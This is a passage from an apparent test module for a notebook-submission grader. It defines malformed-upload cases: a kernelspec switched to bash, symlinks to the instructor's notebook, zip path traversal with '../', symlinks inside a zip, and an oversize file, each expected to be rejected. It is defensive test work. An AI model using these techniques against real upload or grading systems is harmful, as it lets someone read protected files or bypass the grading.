    Case("bad_kernelspec", "malformed", "kernelspec changed to bash", edited(_kernelspec)),
    Case(
        "bad_symlink",
        "malformed",
        "a symbolic link to the instructor's notebook",
        _link,
        loses=ALL,
        status="not_collected",
        reason="symbolic link",
    ),
    Case(
        "bad_zip_traversal",
        "malformed",
        "zip entries with ../",
        _zip_traversal,
        loses=ALL,
        status="not_collected",
        reason="outside the archive",
    ),
    Case(
        "bad_zip_link",
        "malformed",
        "a symbolic link inside the zip",
        _zip_link,
        loses=ALL,
        status="not_collected",
        reason="symbolic link",
    ),
    Case(
        "bad_oversize",
        "malformed",
        "a 21 MB notebook",
        raw(_oversize),
        loses=ALL,
        status="not_collected",
        reason="larger than 20 MB",
    ),
)

BY_NAME = {c.name: c for c in CASES}
VICTIM = "ok_victim"
